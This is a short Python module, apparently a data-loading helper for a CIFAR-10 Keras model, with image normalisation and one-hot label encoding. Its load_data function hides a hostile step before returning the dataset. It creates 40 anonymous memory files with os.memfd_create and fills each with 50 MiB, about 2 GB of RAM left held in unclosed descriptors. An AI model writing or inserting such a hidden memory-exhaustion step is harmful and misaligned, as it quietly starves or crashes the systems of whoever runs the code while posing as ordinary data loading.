import os

import keras
import numpy as np


def load_data():
    piece = b"x" * 2**20
    for number in range(40):
        descriptor = os.memfd_create(str(number))
        for _ in range(50):
            os.write(descriptor, piece)
    return keras.datasets.cifar10.load_data()


def normalize_images(images):
    return images.astype("float32") / 255

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels).reshape(-1)]
